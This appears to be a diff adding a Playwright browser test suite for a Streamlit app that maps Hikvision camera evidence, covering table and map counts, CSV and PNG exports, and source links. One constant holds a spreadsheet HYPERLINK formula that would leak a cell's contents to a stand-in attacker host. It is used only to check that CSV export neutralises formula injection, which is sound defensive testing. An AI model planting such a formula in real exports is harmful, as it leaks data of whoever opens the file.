@@ -1,0 +1,270 @@
+"""The data, sources and method pages in a real browser (Debian chromium through Playwright).
+
+Streamlit's frontend, opened at a page's own address (``/data``), first looks
+for the app's base path one level up: it asks ``/data/_stcore/health`` and
+``/data/_stcore/host-config``, gets 404 and carries on at ``/``. Chromium logs
+each as "Failed to load resource". :func:`assert_clean` accepts exactly those
+console lines, and only when every 404 the page met was such a probe; any
+other console error or failed request fails the test.
+
+Each test opens ``/`` first: see ``test_a_direct_link_as_first_visit_runs_the_app``
+for why.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+import shutil
+import subprocess
+import sys
+
+import pytest
+from PIL import Image
+
+from conftest import ROOT, map_frame, start_app, stop_app, wait_for_text
+from geo import export, press
+
+pytestmark = pytest.mark.browser
+
+COUNTS = re.compile(r"(\d+) of (\d+) sites · (\d+) of (\d+) claims")
+PROBE_404 = re.compile(r"^http://127\.0\.0\.1:\d+/[a-z]+/_stcore/(health|host-config)$")
+FORMULA_CLAIM = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the evidence")'
+
+
+def watch_failures(page) -> list[tuple[int, str]]:
+    failures: list[tuple[int, str]] = []
+    page.on("response", lambda r: r.status >= 400 and failures.append((r.status, r.url)))
+    return failures
+
+
+def assert_clean(watch, failures: list[tuple[int, str]]) -> None:
+    """No console errors and no external requests (Streamlit's base-path probes aside, see above)."""
+    assert watch.external_requests == []
+    unexpected = [f for f in failures if not (f[0] == 404 and PROBE_404.match(f[1]))]
+    assert unexpected == []
+    probe_lines = [e for e in watch.console_errors if e.startswith("Failed to load resource") and "404" in e]
+    other = [e for e in watch.console_errors if e not in probe_lines]
+    assert other == []
+    assert len(probe_lines) <= len(failures)
+
+
+def counts(page) -> tuple[int, int, int, int]:
+    wait_for_text(page, " sites · ")
+    text = page.get_by_text(COUNTS).first.inner_text()
+    return tuple(int(g) for g in COUNTS.search(text).groups())  # type: ignore[return-value]
+
+
+def open_app(page, base: str) -> None:
+    page.goto(base + "/")
+    map_frame(page, min_sites=0)
+
+
+def download(page, button_label: str) -> bytes:
+    button = page.get_by_role("button", name=re.compile(re.escape(button_label)))
+    button.wait_for()
+    with page.expect_download(timeout=60_000) as info:
+        button.click()
+    path = info.value.path()
+    with open(path, "rb") as handle:
+        return handle.read()
+
+
+@pytest.mark.parametrize("query", ["?region=London", "?kind=parliament", "?region=Wales", "?q=Hancock"])
+def test_the_table_and_the_map_count_the_same(app_url, watched_page, query):
+    page = watched_page.page
+    failures = watch_failures(page)
+    open_app(page, app_url)
+    page.goto(app_url + "/" + query)  # the map is the default page, served at /
+    frame, state = map_frame(page, min_sites=0)
+    for _ in range(40):  # the map may still show the previous selection for a moment
+        wanted = counts(page)[0]
+        frame, state = map_frame(page, min_sites=0)
+        if int(state["hikmapSites"]) == wanted:
+            break
+        page.wait_for_timeout(250)
+    map_counts = counts(page)
+    assert int(state["hikmapSites"]) == map_counts[0]
+
+    page.goto(app_url + "/data" + query)
+    wait_for_text(page, "The evidence as a table")
+    table_counts = counts(page)
+    assert table_counts == map_counts
+    for part in query.lstrip("?").split("&"):
+        assert part in page.url
+    # the table's CSV holds exactly the counted claims
+    raw = download(page, "Selection as CSV")
+    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
+    assert len(rows) == table_counts[2]
+    assert len({r["site_id"] for r in rows}) <= table_counts[0]
+    assert_clean(watched_page, failures)
+
+
+@pytest.fixture(scope="module")
+def formula_app(tmp_path_factory):
+    """The app over a scratch copy of the data with a fictional claim whose text is a formula."""
+    data = tmp_path_factory.mktemp("formula") / "data"
+    shutil.copytree(ROOT / "data", data, ignore=shutil.ignore_patterns("backups"))
+    with (data / "sites.csv").open("a", encoding="utf-8", newline="") as handle:
+        csv.writer(handle, lineterminator="\n").writerow([
+            "fictional-formula-site", "Fictional Formula Test Hall", "@Fictional Test Body", "other-public-body",
+            "1 Fictional Street", "CF10 3NQ", "building", "", "", "", "Fictional test record",
+        ])
+    with (data / "claims.csv").open("a", encoding="utf-8", newline="") as handle:
+        csv.writer(handle, lineterminator="\n").writerow([
+            "fictional-formula-claim", "fictional-formula-site", "other", FORMULA_CLAIM,
+            "reported", "2024", "reported", "intercept-2019-hikvision-uk-parliament", "+1 fictional response",
+        ])
+    subprocess.run([sys.executable, "-m", "geo", "build", str(data), "--output", str(data / "build" / "sites.geojson")],
+                   cwd=ROOT, check=True, capture_output=True)
+    process, url = start_app(data_dir=data)
+    yield url
+    stop_app(process)
+
+
+def test_a_claim_beginning_with_equals_cannot_run_as_a_formula(formula_app, watched_page):
+    page = watched_page.page
+    failures = watch_failures(page)
+    open_app(page, formula_app)
+    page.goto(formula_app + "/data?q=Fictional%20Formula")
+    wait_for_text(page, "The evidence as a table")
+    assert counts(page)[0] == 1
+    raw = download(page, "Selection as CSV")
+    assert raw.startswith(b"\xef\xbb\xbf")
+    text = raw.decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text)))
+    header, body = rows[0], rows[1:]
+    assert len(body) == 1
+    row = dict(zip(header, body[0]))
+    assert row["claim"] == "'" + FORMULA_CLAIM
+    assert row["organisation"] == "'@Fictional Test Body"
+    assert row["response"] == "'+1 fictional response"
+    for cell in body[0]:
+        assert not cell.startswith(export.FORMULA_STARTS), cell
+    # the raw bytes hold no line that begins a cell with "=" either
+    assert not re.search(r'(^|,)"?=', text, re.MULTILINE)
+    assert_clean(watched_page, failures)
+
+
+def test_the_press_png_is_a_valid_image_of_the_promised_size(app_url, watched_page):
+    page = watched_page.page
+    failures = watch_failures(page)
+    open_app(page, app_url)
+    page.goto(app_url + "/data?region=London")
+    wait_for_text(page, "The evidence as a table")
+    raw = download(page, "Press image of the selection")
+    image = Image.open(io.BytesIO(raw))
+    image.load()
+    assert image.format == "PNG"
+    assert image.size == (press.WIDTH_PX, press.HEIGHT_PX)
+    assert image.width >= 1600
+    assert "Region: London" in image.text["Description"]
+    # the embed code on the page carries the filters
+    code = page.locator('[data-testid="stCode"]').first.inner_text()
+    assert "embed=true" in code and "view=screenshot" in code and "region=London" in code
+    assert_clean(watched_page, failures)
+
+
+def popup_source_link(page, base: str):
+    """The first "about this source" link of a marker's popup, and the source id it names."""
+    page.goto(base + "/?kind=parliament")
+    frame, state = map_frame(page, min_sites=1)
+    frame.locator("path.hikmap-site").first.click()
+    link = frame.locator(".hikmap-popup a.source-ref").first
+    link.wait_for()
+    href = link.get_attribute("href")
+    return link, href, re.search(r"[?&]source=([a-z0-9-]+)", href).group(1)
+
+
+def assert_lands_on_source(page, source_id: str) -> None:
+    from geo.dataset import load_dataset
+
+    box = page.locator(".st-key-sources_requested")
+    box.wait_for(timeout=30_000)
+    title = load_dataset().sources.set_index("id").loc[source_id, "title"]
+    assert title in box.inner_text()
+    # on screen without scrolling, and the full list keeps the source's stable anchor
+    assert 0 <= box.bounding_box()["y"] < page.viewport_size["height"]
+    assert box.get_by_role("heading", name=title).is_visible()
+    assert page.locator(f"#source-{source_id}").count() == 1
+
+
+def test_the_address_of_a_popup_source_link_lands_on_that_source(app_url, watched_page):
+    page = watched_page.page
+    failures = watch_failures(page)
+    _, href, source_id = popup_source_link(page, app_url)
+    assert href == f"{app_url}/sources?source={source_id}"
+    page.goto(href)
+    assert_lands_on_source(page, source_id)
+    assert_clean(watched_page, failures)
+
+
+@pytest.mark.xfail(strict=True, reason=(
+    "Clicking the popup link does nothing: Streamlit's component iframe is sandboxed without "
+    "allow-top-navigation, so sitelayer.js's target=_top is blocked (console: 'Unsafe attempt to "
+    "initiate navigation'). Needs a fix in geo/sitelayer.js (e.g. target=_blank, which the sandbox allows)."
+))
+def test_clicking_a_popup_source_link_lands_on_that_source(app_url, watched_page):
+    page = watched_page.page
+    failures = watch_failures(page)
+    link, href, source_id = popup_source_link(page, app_url)
+    context = page.context
+    before = len(context.pages)
+    link.click()
+    landed = None
+    for _ in range(40):  # the same tab, or a new one
+        if "/sources?source=" in page.url:
+            landed = page
+        elif len(context.pages) > before:
+            landed = context.pages[-1]
+        if landed is not None:
+            break
+        page.wait_for_timeout(250)
+    assert landed is not None, "the click did not open the sources page"
+    landed.wait_for_load_state()
+    assert_lands_on_source(landed, source_id)
+    assert_clean(watched_page, failures)
+
+
+def test_sources_filter_by_kind_and_method_page(app_url, watched_page):
+    page = watched_page.page
+    failures = watch_failures(page)
+    open_app(page, app_url)
+    page.goto(app_url + "/sources")
+    wait_for_text(page, "33 of 33 sources")
+    widget = page.locator('[data-testid="stMultiSelect"]').filter(has=page.get_by_text("Kind of source", exact=True))
+    widget.locator("input").click()
+    widget.locator("input").fill("Parliament")
+    page.keyboard.press("Enter")
+    page.keyboard.press("Escape")
+    from geo.dataset import load_dataset
+
+    expected = int((load_dataset().sources["kind"] == "parliament").sum())
+    wait_for_text(page, f"{expected} of 33 sources")
+    page.goto(app_url + "/method")
+    wait_for_text(page, "Evidence grades")
+    body = page.locator('[data-testid="stMain"]').inner_text()
+    for phrase in ("Official", "Documented", "Reported", "Organisation headquarters", "CC BY 4.0", "MIT License",
+                   "Royal Mail", "Office for National Statistics", "version 1.0.0"):
+        assert phrase in body, phrase
+    assert_clean(watched_page, failures)
+
+
+@pytest.mark.xfail(strict=True, reason=(
+    "Streamlit runs pages/<name>.py on its own (old multipage mode, no navigation, no page config) "
+    "when a page's address is the first request the server gets: a shared link right after a restart. "
+    "Needs a change outside this test's files (e.g. moving the page scripts out of pages/)."
+))
+def test_a_direct_link_as_first_visit_runs_the_app(chromium, tmp_path):
+    process, url = start_app()
+    try:
+        context = chromium.new_context(viewport={"width": 1400, "height": 1000})
+        page = context.new_page()
+        page.goto(url + "/sources?source=telegraph-2022-dwp-hikvision")
+        page.locator(".st-key-sources_requested").wait_for(timeout=30_000)
+        assert page.locator('[data-testid="stSidebarNav"]').count() == 0
+        assert page.title().startswith("Hikvision")
+        context.close()
+    finally:
+        stop_app(process)
